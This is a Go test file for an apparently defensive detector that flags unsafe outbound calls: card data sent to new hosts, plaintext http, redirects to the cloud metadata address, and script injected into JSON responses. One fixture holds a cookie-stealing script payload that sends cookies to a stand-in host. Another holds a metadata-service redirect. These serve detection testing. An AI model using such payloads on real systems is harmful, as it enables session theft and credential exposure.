package detect

import (
	"strings"
	"testing"
	"time"

	"github.com/palisade-sec/palisade/internal/event"
)

func outbound(t *testing.T, at time.Time, method, url string, reqCT, body string, status int, respHdr map[string]string, respBody string) *event.Event {
	ev := sigEvent(t, method, url, map[string]string{"content-type": reqCT}, body, status)
	ev.Outbound = true
	ev.Time = at
	ev.Rec.Response.Headers = respHdr
	ev.Rec.Response.Body = respBody
	return ev
}

func TestUpstream(t *testing.T) {
	d := NewUpstream(Config{Options: optsYAML(t, "upstream: {learn_minutes: 30, learn_calls: 2}")})
	em := NewEmitter()
	t0 := sigTime
	card := `{"card":"4111 1111 1111 1111","amount":5}`
	// Learning: a card to a known processor is fine; an https call with a JSON body too.
	d.Observe(outbound(t, t0, "POST", "https://pay.example.com/v1/charge", "application/json", card, 200, nil, `{"ok":true}`), em)
	d.Observe(outbound(t, t0.Add(10*time.Minute), "GET", "https://geo.example.net/v1/ip", "", "", 200, map[string]string{"content-type": "application/json"}, `{"city":"Oslo"}`), em)
	if n := len(em.Alerts()); n != 0 {
		t.Fatalf("alerts during learning: %+v", em.Alerts())
	}
	// After learning: same card to the known host → nothing; to a new host → alert.
	d.Observe(outbound(t, t0.Add(40*time.Minute), "POST", "https://pay.example.com/v1/charge", "application/json", card, 200, nil, ""), em)
	d.Observe(outbound(t, t0.Add(41*time.Minute), "POST", "https://collect.example.org/v1/x", "application/json", card, 200, nil, ""), em)
	// Plain http to a third party.
	d.Observe(outbound(t, t0.Add(42*time.Minute), "GET", "http://weather.example.com/v1/now", "", "", 200, nil, ""), em)
	// Plain http to an internal service: not third-party.
	d.Observe(outbound(t, t0.Add(42*time.Minute), "GET", "http://10.1.2.3:8080/v1/now", "", "", 200, nil, ""), em)
	// Redirect to metadata.
	d.Observe(outbound(t, t0.Add(43*time.Minute), "GET", "https://geo.example.net/v1/ip", "", "", 302, map[string]string{"location": "http://169.254.169.254/latest/meta-data/"}, ""), em)
	// Injection payload in a JSON response; HTML responses are not judged.
	d.Observe(outbound(t, t0.Add(44*time.Minute), "GET", "https://geo.example.net/v1/city", "", "", 200, map[string]string{"content-type": "application/json"}, `{"city":"<script>document.location='//x.test/'+document.cookie</script>"}`), em)
	d.Observe(outbound(t, t0.Add(45*time.Minute), "GET", "https://cms.example.net/page", "", "", 200, map[string]string{"content-type": "text/html"}, `<html><script>var a=1</script></html>`), em)
	issues := map[string]string{}
	var all []string
	for _, a := range em.Alerts() {
		if a.Type != "consumption.unsafe_upstream" {
			t.Errorf("type %s", a.Type)
		}
		iss := a.Evidence.Details["issue"].(string)
		issues[iss] = a.Evidence.Details["destination"].(string)
		all = append(all, iss+"@"+a.Evidence.Details["destination"].(string))
		if f, ok := a.Evidence.Details["fragment"].(string); ok && strings.Contains(f, "4111 1111 1111 1111") {
			t.Errorf("card number in evidence: %q", f)
		}
	}
	want := map[string]string{"sensitive_to_new_destination": "collect.example.org", "plaintext": "weather.example.com", "redirect_internal": "geo.example.net", "injection_in_response": "geo.example.net"}
	for k, v := range want {
		if issues[k] != v {
			t.Errorf("issue %s: got %q, want %q (all: %v)", k, issues[k], v, all)
		}
	}
	if len(issues) != len(want) {
		t.Errorf("issues: %v", all)
	}
	// Inbound events are ignored.
	em2 := NewEmitter()
	d.Observe(sigEvent(t, "GET", "http://api.example.test/v1/x", nil, "", 200), em2)
	if len(em2.Alerts()) != 0 {
		t.Error("inbound event judged")
	}
}

func TestSensitiveValue(t *testing.T) {
	for in, want := range map[string]string{
		"4111-1111-1111-1111":                "payment card number",
		"card 5500 0000 0000 0004 exp 12/29": "payment card number",
		"4111 1111 1111 1112":                "",
		"ssn: 123-45-6789":                   "US social security number",
		"000-12-3456":                        "",
		"IBAN DE89 3704 0044 0532 0130 00":   "IBAN",
		"DE89370400440532013001":             "",
		"order 1234567890123 shipped":        "",
		"0000000000000000":                   "",
	} {
		if k, _ := SensitiveValue(in); k != want {
			t.Errorf("SensitiveValue(%q) = %q, want %q", in, k, want)
		}
	}
}

// Learning lasts learn_minutes and learn_calls calls, whichever ends
// later: on a quiet night a destination the service uses every day (the
// payment processor) may first come up after the first hour, among the
// first few dozen calls.
func TestUpstreamLearnsByCalls(t *testing.T) {
	d := NewUpstream(Config{Options: optsYAML(t, "upstream: {learn_minutes: 60, learn_calls: 20}")})
	em := NewEmitter()
	card := `{"card":"4111 1111 1111 1111","amount":5}`
	at := sigTime
	for i := 0; i < 8; i++ { // one call every 10 minutes for 80 minutes
		d.Observe(outbound(t, at.Add(time.Duration(i)*10*time.Minute), "GET", "https://geo.example.net/v1/ip", "", "", 200, nil, ""), em)
	}
	// 80 minutes in, the 9th call: the processor first comes up.
	d.Observe(outbound(t, at.Add(81*time.Minute), "POST", "https://pay.example.com/v1/charge", "application/json", card, 200, nil, ""), em)
	for i := 0; i < 15; i++ {
		d.Observe(outbound(t, at.Add(time.Duration(90+i)*time.Minute), "POST", "https://pay.example.com/v1/charge", "application/json", card, 200, nil, ""), em)
	}
	if as := em.Alerts(); len(as) != 0 {
		t.Fatalf("alerts on a destination first seen while learning: %+v", as[0].Evidence)
	}
	d.Observe(outbound(t, at.Add(2*time.Hour), "POST", "https://collect.example.org/v1/x", "application/json", card, 200, nil, ""), em)
	if as := em.Alerts(); len(as) != 1 || as[0].Evidence.Details["destination"] != "collect.example.org" {
		t.Fatalf("alerts after learning: %+v", as)
	}
}
